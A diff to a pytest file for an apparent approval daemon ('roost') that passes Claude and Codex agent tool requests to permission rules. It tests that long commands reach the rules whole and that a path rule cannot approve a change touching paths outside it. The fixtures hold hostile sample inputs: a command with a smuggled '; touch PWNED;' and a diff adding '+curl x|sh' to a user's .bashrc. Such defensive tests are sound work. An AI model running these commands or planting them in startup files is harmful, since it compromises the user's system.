@@ -10,7 +10,7 @@ from typing import Any
 
 import pytest
 
-from roost.drivers.approvals import WHAT_TEXT_MAX, WORDS_MAX
+from roost.drivers.approvals import WORDS_MAX
 from roost.drivers.claude import ClaudeAdapter
 from roost.drivers.codex import CodexAdapter
 from roost.protocol import MAX_FRAME
@@ -137,20 +137,19 @@ def test_an_abort_with_no_turn_stops_the_background_subagents_and_is_answered_at
     assert rig.written == [], "a stopped subagent is not stopped again"
 
 
-def test_an_approval_too_big_for_a_frame_is_cut_saying_how_much() -> None:
+def test_a_long_approval_is_carried_whole_for_the_rules_to_decide_on() -> None:
+    """The adapter cuts nothing of what will run: the daemon's rules decide on the whole request and
+    only what it stores and shows is cut (roost/rules/approvals.py bound_what)."""
     rig = claude_in_a_turn()
-    command = "echo " + "x" * (2 * MAX_FRAME // 3)
+    command = "echo hi " + "x" * 5000 + "; touch PWNED; " + "y" * (2 * MAX_FRAME // 3)
     [event] = rig.frame(can_use_tool("r-1", "Bash", {"command": command}))
-    shown = event["what"]["command"]
-    assert len(shown) < WHAT_TEXT_MAX + 100 and shown.startswith("echo xx") and "characters cut by roost" in shown
-    assert b'"approval"' in encode_event(event), "the event itself, not a note in its place"
-    [at_limit] = claude_in_a_turn().frame(can_use_tool("r-2", "Bash", {"command": "y" * WHAT_TEXT_MAX}))
-    assert at_limit["what"]["command"] == "y" * WHAT_TEXT_MAX
-    big = {"blob": "z" * (WHAT_TEXT_MAX + 1)}
+    assert event["what"]["command"] == command
+    big = {"blob": "z" * 100_000}
     [other] = claude_in_a_turn().frame(can_use_tool("r-3", "Glob", big))
-    assert isinstance(other["what"]["input"], str) and "characters cut by roost" in other["what"]["input"]
+    assert other["what"]["input"] == big
     rig.command({"type": "approval_answer", "id": 2, "approval": "r-1", "decision": "allow"})
     assert rig.written[-1]["response"]["response"]["updatedInput"] == {"command": command}, "it runs as asked"
+
     def said(n: int) -> list[dict[str, Any]]:
         return claude_in_a_turn().frame(can_use_tool("r-4", "Bash", {"command": "ls"}, description="d" * n))
 
@@ -225,3 +224,26 @@ def test_a_codex_request_still_pending_at_its_turns_end_is_withdrawn() -> None:
                         "params": {"threadId": "th-1", "turn": {"id": "turn-1", "status": "completed"}}})
     assert [e["type"] for e in events] == ["approval_withdrawn", "turn_end"]
     assert events[0]["approval"] == "4" and events[1]["outcome"] == "ok"
+
+
+def test_a_codex_change_of_several_paths_or_a_move_is_allowed_by_a_path_rule_only_when_every_path_matches() -> None:
+    """Issue 31, item 6: a prefix rule once matched a multi-file change through its first path."""
+    from roost.rules.approvals import decide, level
+
+    def change(*changes: dict[str, Any]) -> dict[str, Any]:
+        rig = codex_in_a_turn()
+        rig.frame({"jsonrpc": "2.0", "method": "item/started", "params": {
+            "threadId": "th-1", "turnId": "turn-1", "startedAtMs": 1,
+            "item": {"type": "fileChange", "id": "fc-1", "status": "inProgress", "changes": list(changes)}}})
+        [event] = rig.frame({"jsonrpc": "2.0", "id": 3, "method": "item/fileChange/requestApproval", "params": {
+            "threadId": "th-1", "turnId": "turn-1", "itemId": "fc-1", "startedAtMs": 1}})
+        return event["what"]
+
+    policy = [level("ask", ["apply_patch:/repo/*"])]
+    inside = {"path": "/repo/a.py", "kind": {"type": "update", "move_path": None}, "diff": "-a\n+b\n"}
+    outside = {"path": "/home/u/.bashrc", "kind": {"type": "update", "move_path": None}, "diff": "+curl x|sh\n"}
+    moved = {"path": "/repo/b.py", "kind": {"type": "update", "move_path": "/home/u/.bashrc"}, "diff": ""}
+    assert decide(policy, [], "apply_patch", change(inside)).verdict == "allow"
+    assert decide(policy, [], "apply_patch", change(inside, outside)).verdict == "ask"
+    assert decide(policy, [], "apply_patch", change(moved)).verdict == "ask"
+    assert "/home/u/.bashrc" in change(moved)["path"].split("\n")
